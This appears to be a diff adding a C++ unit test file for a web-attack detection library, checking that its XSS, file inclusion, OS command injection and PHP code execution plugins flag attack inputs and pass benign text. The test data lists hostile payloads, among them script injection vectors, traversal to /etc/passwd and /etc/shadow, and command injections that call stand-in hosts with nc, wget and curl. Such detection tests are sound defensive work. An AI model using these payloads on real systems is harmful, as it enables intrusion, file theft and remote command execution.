@@ -1,0 +1,247 @@
+#include "septic/plugins/plugin.h"
+
+#include <gtest/gtest.h>
+
+#include "septic/plugins/html_parser.h"
+
+namespace septic::core {
+namespace {
+
+// ------------------------------------------------------------- HTML parser
+
+TEST(HtmlParser, EntityDecoding) {
+  EXPECT_EQ(html::decode_entities("&lt;b&gt;"), "<b>");
+  EXPECT_EQ(html::decode_entities("&amp;&quot;&apos;"), "&\"'");
+  EXPECT_EQ(html::decode_entities("&#60;&#x3C;"), "<<");
+  EXPECT_EQ(html::decode_entities("&#700;"), "\xca\xbc");  // U+02BC
+  EXPECT_EQ(html::decode_entities("no entities"), "no entities");
+  EXPECT_EQ(html::decode_entities("&bogus;"), "&bogus;");
+  EXPECT_EQ(html::decode_entities("a & b"), "a & b");
+}
+
+TEST(HtmlParser, SimpleTagWithAttributes) {
+  auto frag = html::parse_fragment("<a href=\"http://x\" target=_blank>hi</a>");
+  ASSERT_EQ(frag.tags.size(), 2u);
+  EXPECT_EQ(frag.tags[0].name, "a");
+  ASSERT_EQ(frag.tags[0].attributes.size(), 2u);
+  EXPECT_EQ(frag.tags[0].attributes[0].name, "href");
+  EXPECT_EQ(frag.tags[0].attributes[0].value, "http://x");
+  EXPECT_TRUE(frag.tags[1].closing);
+  EXPECT_EQ(frag.text, "hi");
+}
+
+TEST(HtmlParser, LooseAngleBracketIsText) {
+  auto frag = html::parse_fragment("1 < 2 and 3 > 2");
+  EXPECT_TRUE(frag.tags.empty());
+  EXPECT_NE(frag.text.find('<'), std::string::npos);
+}
+
+TEST(HtmlParser, UnterminatedTagStillParsed) {
+  // Browsers (and XSS payloads) tolerate a missing '>'.
+  auto frag = html::parse_fragment("<img src=x onerror=alert(1)");
+  ASSERT_EQ(frag.tags.size(), 1u);
+  EXPECT_EQ(frag.tags[0].name, "img");
+  EXPECT_NE(frag.tags[0].find_attr("onerror"), nullptr);
+}
+
+TEST(HtmlParser, CommentSkipped) {
+  auto frag = html::parse_fragment("<!-- <script>x</script> -->ok");
+  EXPECT_TRUE(frag.tags.empty());
+  EXPECT_EQ(frag.text, "ok");
+}
+
+TEST(HtmlParser, SelfClosingAndQuotedValues) {
+  auto frag = html::parse_fragment("<br/><input value='a b'>");
+  ASSERT_EQ(frag.tags.size(), 2u);
+  EXPECT_TRUE(frag.tags[0].self_closing);
+  EXPECT_EQ(frag.tags[1].find_attr("value")->value, "a b");
+}
+
+// -------------------------------------------------------------- XSS plugin
+
+class XssCases : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(XssCases, Detected) {
+  auto plugin = make_xss_plugin();
+  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
+  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, XssCases,
+    ::testing::Values(
+        "<script>alert('Hello!');</script>",          // the paper's example
+        "<SCRIPT SRC=http://evil/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<svg onload=confirm(1)>",
+        "<a href=\"javascript:alert(1)\">clickme</a>",
+        "<a href='jav\tascript:alert(1)'>tab-split</a>",
+        "<iframe src=//evil.example></iframe>",
+        "<form action=javascript:alert(1)><input type=submit>",
+        "<body background=\"javascript:alert(1)\">",
+        "<div style=\"width: expression(alert(1))\">ie</div>",
+        "&lt;script&gt;alert(1)&lt;/script&gt;"));  // entity-encoded layer
+
+class XssBenign : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(XssBenign, NotDetected) {
+  auto plugin = make_xss_plugin();
+  // quick_check may fire (it is a cheap filter); deep_check must clear it.
+  if (plugin->quick_check(GetParam())) {
+    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Inputs, XssBenign,
+    ::testing::Values("budget <= 100 EUR", "a < b and c > d",
+                      "Dear <name>, welcome",  // template placeholder
+                      "5 > 3", "plain text", "math: 1<2>0",
+                      "<b>bold</b> is formatting, not script",
+                      "price in < USD >"));
+
+// ---------------------------------------------------------- RFI/LFI plugin
+
+class FileIncCases : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(FileIncCases, Detected) {
+  auto plugin = make_fileinc_plugin();
+  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
+  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, FileIncCases,
+    ::testing::Values("http://203.0.113.7/shell.php?cmd=id",
+                      "https://evil.example/x.php?c=1",
+                      "ftp://203.0.113.8/payload.txt",
+                      "php://input", "php://filter/convert.base64-encode",
+                      "expect://id", "zip://archive.zip#shell.php",
+                      "../../../../etc/passwd",
+                      "..\\..\\windows\\system32\\config",
+                      "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+                      "/etc/shadow", "c:\\windows\\win.ini"));
+
+class FileIncBenign : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(FileIncBenign, NotDetected) {
+  auto plugin = make_fileinc_plugin();
+  if (plugin->quick_check(GetParam())) {
+    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Inputs, FileIncBenign,
+    ::testing::Values("http://device.local/fridge",     // plain device URL
+                      "https://example.com/about",      // plain homepage
+                      "../styles/main.css",             // single-level relative
+                      "docs/readme.txt", "a normal note",
+                      "http://vendor.example/manual"));
+
+// -------------------------------------------------------------- OSCI plugin
+
+class OsciCases : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(OsciCases, Detected) {
+  auto plugin = make_osci_plugin();
+  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
+  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, OsciCases,
+    ::testing::Values("8.8.8.8; cat /etc/passwd", "x | nc evil 4444",
+                      "`wget http://evil/x`", "a && rm -rf /tmp/x",
+                      "$(curl http://evil)", "127.0.0.1\nwget evil/x.sh",
+                      "host; /bin/sh -c 'id'", "1 || ping -c 9 target",
+                      "x; python -c 'import os'"));
+
+class OsciBenign : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(OsciBenign, NotDetected) {
+  auto plugin = make_osci_plugin();
+  if (plugin->quick_check(GetParam())) {
+    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Inputs, OsciBenign,
+    ::testing::Values("prefer 220V; low noise", "R&D department",
+                      "Tom & Jerry", "a | b notation",
+                      "semicolons; are; punctuation",
+                      "the cat sat on the mat",  // 'cat' not after metachar
+                      "price $(approx)"));
+
+// --------------------------------------------------------------- RCE plugin
+
+class RceCases : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(RceCases, Detected) {
+  auto plugin = make_rce_plugin();
+  ASSERT_TRUE(plugin->quick_check(GetParam())) << GetParam();
+  EXPECT_TRUE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Payloads, RceCases,
+    ::testing::Values("eval(base64_decode('cGhwaW5mbygp'))",
+                      "system('id')", "exec(\"whoami\")",
+                      "assert($_GET['x'])", "passthru('ls -la')",
+                      "<?php system('id'); ?>", "<?= `id` ?>",
+                      "O:8:\"EvilUser\":1:{s:4:\"code\";s:8:\"touch /x\";}",
+                      "a:2:{i:0;s:4:\"evil\";i:1;O:3:\"Obj\":0:{}}",
+                      "preg_replace('/x/e', 'system(\"id\")', 'x')"));
+
+class RceBenign : public ::testing::TestWithParam<const char*> {};
+
+TEST_P(RceBenign, NotDetected) {
+  auto plugin = make_rce_plugin();
+  if (plugin->quick_check(GetParam())) {
+    EXPECT_FALSE(plugin->deep_check(GetParam()).has_value()) << GetParam();
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    Inputs, RceBenign,
+    ::testing::Values("let me evaluate the options",
+                      "the system (HVAC) is fine",
+                      "time: 10:30",  // colon-digit but not serialized
+                      "execute the plan", "normal text",
+                      "preg_replace('/x/i', 'y', 'z')",  // no /e modifier
+                      "assertiveness training"));
+
+// ----------------------------------------------------------- plugin battery
+
+TEST(PluginBattery, DefaultSetHasAllFourClasses) {
+  auto plugins = make_default_plugins();
+  ASSERT_EQ(plugins.size(), 4u);
+  std::vector<std::string> names;
+  for (const auto& p : plugins) names.emplace_back(p->name());
+  EXPECT_EQ(names[0], "XSS");
+  EXPECT_EQ(names[1], "RFI/LFI");
+  EXPECT_EQ(names[2], "OSCI");
+  EXPECT_EQ(names[3], "RCE");
+}
+
+TEST(PluginBattery, QuickCheckIsCheapFilterNotVerdict) {
+  // quick_check may over-approximate but must never under-approximate
+  // relative to deep_check: if deep fires, quick must have fired.
+  auto plugins = make_default_plugins();
+  const char* payloads[] = {
+      "<script>x</script>", "php://input", "x; cat /etc/passwd",
+      "eval(base64_decode('x'))"};
+  for (const auto& plugin : plugins) {
+    for (const char* p : payloads) {
+      if (plugin->deep_check(p).has_value()) {
+        EXPECT_TRUE(plugin->quick_check(p))
+            << plugin->name() << " deep fired without quick on " << p;
+      }
+    }
+  }
+}
+
+}  // namespace
+}  // namespace septic::core
